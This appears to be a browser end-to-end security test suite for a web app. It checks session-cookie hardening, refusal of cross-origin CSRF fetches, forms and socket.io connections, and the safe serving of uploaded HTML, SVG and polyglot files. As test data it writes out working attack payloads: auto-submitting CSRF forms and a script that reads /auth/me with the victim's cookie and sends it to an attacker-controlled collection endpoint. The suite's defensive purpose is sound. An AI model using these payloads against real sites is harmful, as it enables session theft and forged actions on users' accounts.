/// <reference lib="dom" />
/**
 * The browser-side security model, in Chromium against a real server. Needs no web UI: the
 * victim logs in with a fetch from an app-origin page, so these tests run on an API-only
 * server.
 *
 * 1. The session cookie: HttpOnly, Secure, `__Host-`, SameSite=Lax; page scripts cannot read it.
 * 2. Another site, open in the same browser as a logged-in victim, tries to act with the
 *    victim's session: a credentialed fetch, auto-submitting forms, a socket.io connection.
 *    All of it must fail and change nothing. Two attacker origins, both served by the test's
 *    own HTTP server:
 *    - `http://127.0.0.1:<port>`: cross-site. With `SameSite=Lax` Chromium does not even send
 *      the session cookie, so the app sees anonymous requests (401).
 *    - `http://localhost:<port>`: same site as the app (`localhost`), another origin. Cookies
 *      are not bound to ports, so the cookie IS sent: here the server's own CSRF refusal
 *      (403 `csrf`, from `Sec-Fetch-Site`/`Origin`) is what protects the victim.
 * 3. Uploaded files are served from the app's own origin, so an uploaded HTML or SVG page with
 *    a script must never run there: it would read the user's data with the user's cookie. The
 *    server answers such files as `application/octet-stream` attachments with a sandbox CSP;
 *    Chromium turns the navigation into a download, and the payload never phones home.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import {
  apiLogin,
  delay,
  DEMO_PASSWORD,
  eventually,
  makePng,
  openAppOrigin,
  pageFetch,
  pageUpload,
  startAttacker,
  tableCounts,
  uniqueUser,
  userState,
  useE2E,
  type AttackerServer,
} from "./fixture.js";

vi.setConfig({ testTimeout: 40_000, hookTimeout: 30_000 });

const e2e = useE2E({ webUi: false });
let attacker: AttackerServer;
beforeAll(async () => {
  attacker = await startAttacker();
  const app = JSON.stringify(e2e.app.origin);
  attacker.page("/fetch.html", fetchAttackPage(app));
  attacker.page("/form-logout.html", formPage(`${e2e.app.origin}/auth/logout`, false));
  attacker.page("/form-upload.html", formPage(`${e2e.app.origin}/api/files`, true));
  attacker.page("/form-login.html", formPage(`${e2e.app.origin}/auth/login`, false));
  attacker.page("/socket.html", socketAttackPage(app));
});
afterAll(async () => {
  await attacker?.close();
});

function fetchAttackPage(app: string): string {
  return `<!doctype html><title>fetch attack</title><script>
const app = ${app};
window.results = {};
async function attempt(name, run) {
  try {
    const response = await run();
    window.results[name] = { outcome: "response", status: response.status, type: response.type };
  } catch (error) {
    window.results[name] = { outcome: "error", error: String(error) };
  }
}
(async () => {
  // A "simple" request: no preflight, so it does reach the server.
  await attempt("logout", () => fetch(app + "/auth/logout", { method: "POST", credentials: "include" }));
  await attempt("logout-no-cors", () => fetch(app + "/auth/logout", { method: "POST", credentials: "include", mode: "no-cors" }));
  // A custom header forces a CORS preflight, which the server does not grant.
  await attempt("logout-forged-token", () =>
    fetch(app + "/auth/logout", { method: "POST", credentials: "include", headers: { "x-csrf-token": "forged" } }));
  // Reading the victim's data.
  await attempt("read-me", async () => {
    const response = await fetch(app + "/auth/me", { credentials: "include" });
    window.stolen = await response.text();
    return response;
  });
  window.done = true;
})();
</script>`;
}

function formPage(action: string, withFile: boolean): string {
  const fill = withFile
    ? `const files = new DataTransfer();
       files.items.add(new File(["<html><script>alert(1)<\\/script></html>"], "evil.html", { type: "text/html" }));
       document.querySelector("input[type=file]").files = files.files;`
    : "";
  return `<!doctype html><title>form attack</title>
<form method="POST" action="${action}" ${withFile ? 'enctype="multipart/form-data"' : ""}>
  <input type="hidden" name="username" value="attacker">
  <input type="hidden" name="password" value="${DEMO_PASSWORD}">
  ${withFile ? '<input type="file" name="file">' : ""}
</form>
<script>${fill} document.forms[0].submit();</script>`;
}

function socketAttackPage(app: string): string {
  return `<!doctype html><title>socket attack</title>
<script src="/socket.io.min.js"></script>
<script>
window.events = [];
function attempt(name, options) {
  const socket = io(${app}, { withCredentials: true, reconnection: false, timeout: 4000, ...options });
  const record = (event, extra) => window.events.push({ name, event, ...extra });
  socket.on("connect", () => {
    record("connect", { id: socket.id });
    socket.emit("message:send", { content: "pwned after connect via " + name }, (ack) => record("ack", { ack }));
  });
  socket.on("connect_error", (error) => record("connect_error", { message: error.message, data: error.data ?? null }));
  socket.on("message:new", (event) => record("message:new", { event }));
  // Buffered until a connection that never comes.
  socket.emit("message:send", { content: "pwned via " + name });
}
attempt("polling", {});
attempt("websocket", { transports: ["websocket"] });
</script>`;
}

/** Navigates to an auto-submitting form page; returns the app's answer to the POST. */
async function submitForm(tab: Page, pageUrl: string, target: string) {
  const answer = tab.waitForResponse((response) => response.url() === target && response.request().method() === "POST");
  await tab.goto(pageUrl, { waitUntil: "commit" });
  const response = await answer;
  const body = await response.text();
  await tab.waitForLoadState();
  return { status: response.status(), body };
}

async function loggedInVictim() {
  const context = await e2e.newContext();
  const victim = await context.newPage();
  await openAppOrigin(victim, e2e.app.origin);
  const username = uniqueUser("victim");
  const csrfToken = await apiLogin(victim, username);
  const me = await pageFetch(victim, "/auth/me");
  expect(me.status).toBe(200);
  return { context, victim, username, csrfToken, sessionId: me.body.session.id as string };
}

describe("the session cookie", () => {
  test("is HttpOnly, Secure, __Host-, SameSite=Lax, and invisible to the page's scripts", async () => {
    const { context, victim, csrfToken } = await loggedInVictim();
    const cookies = await context.cookies(e2e.app.origin);
    const session = cookies.find((cookie) => cookie.name === e2e.app.cookieName);
    expect(session, `cookies: ${cookies.map((cookie) => cookie.name).join(", ")}`).toBeDefined();
    expect(session!.name).toMatch(/^__Host-/);
    expect(session!).toMatchObject({ httpOnly: true, secure: true, sameSite: "Lax", path: "/", domain: "localhost" });
    expect(session!.value).toMatch(/^[\w-]+\.[\w-]+\.[\w-]+$/); // a JWT

    const visible = await victim.evaluate(() => ({
      cookie: document.cookie,
      storage: [localStorage, sessionStorage].flatMap((store) =>
        Array.from({ length: store.length }, (_, i) => `${store.key(i)}=${store.getItem(store.key(i)!)}`),
      ),
    }));
    expect(visible.cookie).not.toContain(session!.value);
    expect(visible.cookie).not.toContain(session!.value.split(".")[2]!);
    expect(visible.cookie).not.toContain(csrfToken);
    expect(visible.storage.join("\n")).not.toContain(session!.value.split(".")[2]!);
    expect(visible.storage.join("\n")).not.toContain(csrfToken);
  });
});

const attackers = [
  { site: "cross-site", origin: () => attacker.crossSiteOrigin },
  { site: "same-site", origin: () => attacker.sameSiteOrigin },
] as const;

describe.each(attackers)("a $site page (another origin) with the victim logged in", ({ site, origin }) => {
  test("cannot log the victim out or in, upload, or chat over socket.io; nothing changes", async () => {
    const { context, victim, username, sessionId } = await loggedInVictim();
    const before = await tableCounts(e2e.app);
    const firstRequest = e2e.app.requests.length;
    const tab = await context.newPage();
    const attackerOrigin = origin();

    // (a) fetch: simple credentialed POST, no-cors POST, preflighted POST, reading /auth/me.
    await tab.goto(`${attackerOrigin}/fetch.html`);
    await tab.waitForFunction(() => (window as any).done === true);
    const results = await tab.evaluate(() => ({ results: (window as any).results, stolen: (window as any).stolen }));
    // No CORS grant: every readable response is refused. Even the no-cors one, which would
    // be an opaque response, fails: the app sends `Cross-Origin-Resource-Policy: same-origin`.
    expect(results.results.logout).toMatchObject({ outcome: "error" });
    expect(results.results["logout-no-cors"]).toMatchObject({ outcome: "error" });
    expect(results.results["logout-forged-token"]).toMatchObject({ outcome: "error" });
    expect(results.results["read-me"]).toMatchObject({ outcome: "error" });
    expect(results.stolen).toBeUndefined();

    // (b) auto-submitting forms: top-level cross-origin POST navigations.
    const logout = await submitForm(tab, `${attackerOrigin}/form-logout.html`, `${e2e.app.origin}/auth/logout`);
    const upload = await submitForm(tab, `${attackerOrigin}/form-upload.html`, `${e2e.app.origin}/api/files`);
    // Login CSRF: logging the victim's browser into the attacker's account.
    const loginAnswer = await submitForm(tab, `${attackerOrigin}/form-login.html`, `${e2e.app.origin}/auth/login`);
    // The navigation shows the app's JSON refusal.
    for (const answer of [logout, upload]) {
      expect(answer.status).toBe(site === "cross-site" ? 401 : 403);
      expect(answer.body).toContain(site === "cross-site" ? '"unauthenticated"' : '"csrf"');
    }
    // Login has no session to check yet: the origin rule alone refuses it, cookie or not.
    expect(loginAnswer.status).toBe(403);
    expect(loginAnswer.body).toContain('"csrf"');

    // (c) socket.io from the attacker's page, polling and websocket-only.
    await tab.goto(`${attackerOrigin}/socket.html`);
    await tab.waitForFunction(
      () => new Set((window as any).events.filter((e: any) => e.event === "connect_error" || e.event === "connect").map((e: any) => e.name)).size === 2,
      null,
      { timeout: 10_000 },
    );
    await delay(300);
    const events: Array<{ name: string; event: string; message?: string; data?: { code?: string } | null }> = await tab.evaluate(() => (window as any).events);
    expect(events.filter((event) => event.event !== "connect_error")).toEqual([]);
    // Polling is an XHR: the engine.io handshake's answer has no CORS grant, so the client
    // cannot even read it. A WebSocket is not subject to CORS: the server's Origin check
    // refuses the upgrade itself, with HTTP 403 before any engine.io session exists.
    expect(events.find((event) => event.name === "polling")).toMatchObject({ event: "connect_error", message: "xhr poll error" });
    expect(events.find((event) => event.name === "websocket")).toMatchObject({ event: "connect_error", message: "websocket error" });

    // What reached the server, with the headers the browser really sent (printed for the
    // record, also when an assertion below fails).
    const attacks = e2e.app.requests.slice(firstRequest).filter((request) => request.origin === attackerOrigin);
    console.info(
      `[e2e] ${site} attacker ${attackerOrigin} → app ${e2e.app.origin}, as the server saw it:\n` +
        attacks
          .map(
            (r) =>
              `  ${r.method} ${r.url.split("?")[0]} cookie=${r.sentSessionCookie ? "sent" : "not sent"} sec-fetch-site=${r.secFetchSite} → ${r.status} ${r.errorCode ?? ""}`,
          )
          .join("\n") +
        `\n  fetch results: ${JSON.stringify(results.results)}\n  socket events: ${JSON.stringify(events)}`,
    );
    const login = attacks.filter((request) => request.url === "/auth/login");
    expect(login).toEqual([expect.objectContaining({ method: "POST", status: 403, errorCode: "csrf", secFetchSite: site })]);
    const unsafe = attacks.filter((request) => request.method === "POST" && request.url !== "/auth/login");
    // 2 simple fetches (cors, no-cors) and 2 form posts; the preflighted fetch never got past its preflight.
    expect(unsafe.map((request) => `${request.method} ${request.url.split("?")[0]}`).sort()).toEqual([
      "POST /api/files",
      "POST /auth/logout",
      "POST /auth/logout",
      "POST /auth/logout",
    ]);
    expect(attacks.filter((request) => request.csrfHeader)).toEqual([]);
    for (const request of unsafe) {
      if (site === "cross-site") {
        // SameSite=Lax: no cookie on a cross-site POST, not even a top-level form navigation.
        expect(request).toMatchObject({ sentSessionCookie: false, secFetchSite: "cross-site", status: 401, errorCode: "unauthenticated" });
      } else {
        // Same site: the cookie rides along; the CSRF check (Sec-Fetch-Site) refuses.
        expect(request).toMatchObject({ sentSessionCookie: true, secFetchSite: "same-site", status: 403, errorCode: "csrf" });
      }
    }
    // The cross-origin GET of /auth/me was answered (with the cookie when same-site), but the
    // browser kept the answer from the page: `stolen` stayed undefined above.

    // Nothing changed: the victim is still logged in with the same session, and no row was added.
    await delay(300);
    const me = await pageFetch(victim, "/auth/me");
    expect(me.status).toBe(200);
    expect(me.body.session.id).toBe(sessionId);
    const state = await userState(e2e.app, username);
    expect(state.sessions).toEqual([expect.objectContaining({ id: sessionId, revoked: false })]);
    expect(state.threads).toBe(0);
    expect(state.messages).toEqual([]);
    expect(state.files).toEqual([]);
    expect(await tableCounts(e2e.app)).toEqual(before);
  });
});

/** Script that, if it ever runs, reads /auth/me with the ambient cookie and sends it to the attacker. */
function stealScript(sink: string): string {
  return `
    new Image().src = ${JSON.stringify(sink + "-img")};
    fetch("/auth/me", { credentials: "include" })
      .then((response) => response.text())
      .catch((error) => "error: " + error)
      .then((text) => fetch(${JSON.stringify(sink)}, { method: "POST", mode: "no-cors", body: text }));`;
}

function htmlPayload(sink: string): string {
  return `<!doctype html><html><head><title>evil</title></head><body><h1>hello</h1><script>${stealScript(sink)}</script></body></html>`;
}

function svgPayload(sink: string): string {
  return (
    `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="new Image().src='${sink}-onload'">` +
    `<rect width="40" height="40" fill="red"/><script type="text/javascript"><![CDATA[${stealScript(sink)}]]></script></svg>`
  );
}

interface Case {
  label: string;
  name: string;
  declaredType: string;
  content: (sink: string) => string | Buffer;
  /** What the server should have sniffed. */
  sniffed: string;
}

const cases: Case[] = [
  { label: "HTML page with a script", name: "evil.html", declaredType: "text/html", content: htmlPayload, sniffed: "text/html" },
  { label: "HTML page disguised as a PNG", name: "cat.png", declaredType: "image/png", content: htmlPayload, sniffed: "text/html" },
  { label: "SVG with a script and an onload handler", name: "evil.svg", declaredType: "image/svg+xml", content: svgPayload, sniffed: "image/svg+xml" },
  {
    label: "PNG/HTML polyglot",
    name: "polyglot.png",
    declaredType: "image/png",
    content: (sink) => Buffer.concat([makePng(4, 4), Buffer.from(htmlPayload(sink))]),
    sniffed: "application/octet-stream",
  },
];

describe("uploaded active content never runs on the app's origin", () => {
  test("control: the payload does run when served as a page by another origin", async () => {
    // Proves the payload and the exfiltration sink work in this browser, so "no hit" in the
    // tests below means "blocked", not "broken payload".
    const sink = `${attacker.crossSiteOrigin}/collect/control`;
    attacker.page("/control.html", htmlPayload(sink));
    attacker.page("/control.svg.html", svgPayload(`${attacker.crossSiteOrigin}/collect/control-svg`));
    const page = await e2e.newPage();
    await page.goto(`${attacker.crossSiteOrigin}/control.html`);
    await eventually("the control page's script to reach the sink", () => attacker.exfiltrated().some((hit) => hit.url === "/collect/control"));
    expect(attacker.exfiltrated().some((hit) => hit.url === "/collect/control-img")).toBe(true);
    await page.goto(`${attacker.crossSiteOrigin}/control.svg.html`);
    await eventually("the control SVG's script to reach the sink", () => attacker.exfiltrated().some((hit) => hit.url === "/collect/control-svg"));
  });

  test("uploaded HTML, disguised HTML, SVG and a polyglot are downloads with a sandbox CSP, and their scripts never run", async () => {
    const context = await e2e.newContext();
    const page = await context.newPage();
    await openAppOrigin(page, e2e.app.origin);
    const csrfToken = await apiLogin(page, uniqueUser("files"));
    const tab = await context.newPage();

    for (const { label, name, declaredType, content, sniffed } of cases) {
      const sink = `${attacker.crossSiteOrigin}/collect/${name}`;
      const upload = await pageUpload(page, csrfToken, { name, type: declaredType, content: content(sink) });
      expect(upload.status, label).toBe(201);
      expect(upload.body.mime, label).toBe(sniffed);
      const url: string = upload.body.url;
      expect(url, label).toMatch(/^\/api\/files\/[\w-]+/);

      // The response, as the browser gets it with the cookie.
      const response = await pageFetch(page, url);
      expect(response.status, label).toBe(200);
      expect(response.headers["content-type"], label).toBe("application/octet-stream");
      expect(response.headers["content-disposition"], label).toMatch(/^attachment;/);
      expect(response.headers["content-security-policy"], label).toBe("default-src 'none'; sandbox");
      expect(response.headers["x-content-type-options"], label).toBe("nosniff");
      expect(response.headers["cross-origin-resource-policy"], label).toBe("same-origin");

      // Opened directly, as a victim following a link would: Chromium downloads it.
      const [download, navigation] = await Promise.all([
        tab.waitForEvent("download"),
        tab.goto(`${e2e.app.origin}${url}`).then(
          () => "loaded",
          (error: Error) => error.message,
        ),
      ]);
      // page.goto fails with "Download is starting" instead of loading a document.
      expect(navigation, label).toMatch(/download is starting/i);
      expect(download.suggestedFilename(), label).toBe(name);
      expect(download.url(), label).toBe(`${e2e.app.origin}${url}`);
      // The tab never became a document of the app's origin.
      expect(tab.url(), label).not.toContain("/api/files/");
    }

    // Give a script that did run every chance to reach the sink.
    await delay(700);
    expect(attacker.exfiltrated().filter((hit) => !hit.url.startsWith("/collect/control"))).toEqual([]);
  });
});
